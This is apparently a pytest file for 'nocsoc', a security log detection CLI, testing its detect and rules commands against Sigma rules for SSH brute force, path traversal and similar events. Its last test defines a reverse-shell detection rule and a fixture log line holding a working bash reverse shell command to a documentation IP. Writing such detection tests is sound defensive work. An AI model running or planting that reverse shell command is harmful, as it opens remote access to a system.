"""`nocsoc detect`, `nocsoc rules list|check|test` through the real CLI app."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from nocsoc.cli.app import app
from nocsoc.detections.loader import builtin_rules_dir

TESTS = builtin_rules_dir() / "tests"


def run(tmp_path: Path, *args: str) -> tuple[int, str]:
    res = CliRunner().invoke(app, list(args), env={"NOCSOC_CONFIG": str(tmp_path / "none.yaml")})
    return res.exit_code, res.stdout


def test_detect_json_over_files(tmp_path: Path) -> None:
    log = tmp_path / "mixed.log"
    log.write_text(
        (TESTS / "nocsoc_ssh_success_after_bruteforce.match.log").read_text()
        + (TESTS / "dae741fd-eab3-406d-9bb0-a8ce5e47f81d.match.log").read_text()
        + "junk line\n"
    )
    code, out = run(tmp_path, "detect", str(log), "--json")
    assert code == 0
    doc = json.loads(out)
    assert (doc["events"], doc["unparsed"]) == (22, 1)
    assert sorted((a["rule_title"], a["count"]) for a in doc["alerts"]) == [
        ("Path Traversal Attempt on the Public-Service Portal", 8),
        ("SSH Brute Force From One Source", 12),
        ("SSH Login Success After Brute Force", 4),
    ]
    assert run(tmp_path, "detect", str(tmp_path / "missing.log"))[0] == 2


def test_rules_list_check_and_test(tmp_path: Path, shared_dir: Path) -> None:
    code, out = run(tmp_path, "rules", "list", "--json")
    doc = json.loads(out)
    # no inventory here: the RDP rule (outside the site networks) is disabled, the other 51 listed
    assert code == 0 and len(doc["rules"]) == 51
    assert [d["rule"] for d in doc["disabled"]] == ["bf06da3e-a4ef-40e2-a3bb-b4f01abbda60"]
    kinds = sorted(r["kind"] for r in doc["rules"] if r["kind"].startswith("correlation"))
    assert kinds == [
        # ssh brute force and invalid users, link flap, windows per source/account, web scanner,
        # fortigate ssl-vpn brute force
        *["correlation:event_count"] * 7,
        *["correlation:temporal_ordered"] * 3,  # ssh and windows success after failures, new local admin
        # ssh/windows/ssl-vpn spraying, port scan, host sweep, kerberoasting
        *["correlation:value_count"] * 6,
    ]
    code, out = run(tmp_path, "rules", "check", "--json")
    doc = json.loads(out)
    assert code == 0 and doc["ok"] and len(doc["tests"]) == 104 and doc["untested"] == []
    assert doc["validation"] == []
    code, out = run(tmp_path, "rules", "check", str(shared_dir / "sigmahq" / "rules" / "network"), "--json")
    doc = json.loads(out)
    # unsupported: dns and zeek rules (huawei's bgp rule loads since the Huawei parser exists)
    assert code == 0 and doc["errors"] == [] and len(doc["unsupported"]) == 28
    # pySigma's offline validators ran (SigmaHQ's network rules have a few low-severity findings)
    assert all(v["message"].startswith("low: ") for v in doc["validation"])
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "title: broken\nlogsource: {product: linux}\ndetection:\n  sel: {a: 1}\n  condition: nope\n"
    )
    code, out = run(tmp_path, "rules", "check", str(bad), "--json")
    assert code == 2 and "bad.yml" in json.loads(out)["errors"][0]["path"]
    code, out = run(
        tmp_path,
        "rules",
        "test",
        "nocsoc_ssh_bruteforce",
        str(TESTS / "nocsoc_ssh_bruteforce.match.log"),
        "--json",
    )
    assert code == 0 and json.loads(out)["hits"] == 1
    code, _ = run(
        tmp_path, "rules", "test", "nocsoc_ssh_bruteforce", str(TESTS / "nocsoc_ssh_bruteforce.nomatch.log")
    )
    assert code == 1
    assert run(tmp_path, "rules", "test", "no-such-rule", str(bad))[0] == 2


def test_detect_json_lines_with_a_rule_of_your_own(tmp_path: Path) -> None:
    rule = tmp_path / "mine.yml"
    rule.write_text(
        "title: Reverse shell via bash\nid: 6c0f5a52-1d5e-4a47-9b8e-0a0a0a0a0a0a\nstatus: test\n"
        "logsource: {product: linux, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine|contains|all: ['bash -i', '/dev/tcp/']\n  condition: sel\n"
        "level: high\ntags: [attack.execution, attack.t1059.004]\nfalsepositives: [none]\n"
    )
    log = tmp_path / "edr.jsonl"
    log.write_text(
        '{"host": "srv1", "timestamp": 1795568400,'
        ' "CommandLine": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",'
        ' "logsource": {"product": "linux", "category": "process_creation"}}\n'
        '{"host": "srv1", "timestamp": 1795568401, "CommandLine": "bash -i",'
        ' "logsource": {"product": "linux", "category": "process_creation"}}\n'
        "not json at all\n"
    )
    code, out = run(tmp_path, "detect", str(log), "--rules", str(rule), "--no-builtin", "--json")
    doc = json.loads(out)
    assert code == 0 and (doc["events"], doc["unparsed"]) == (3, 1)
    assert [(a["rule_title"], a["host"], a["count"]) for a in doc["alerts"]] == [
        ("Reverse shell via bash", "srv1", 1)
    ]
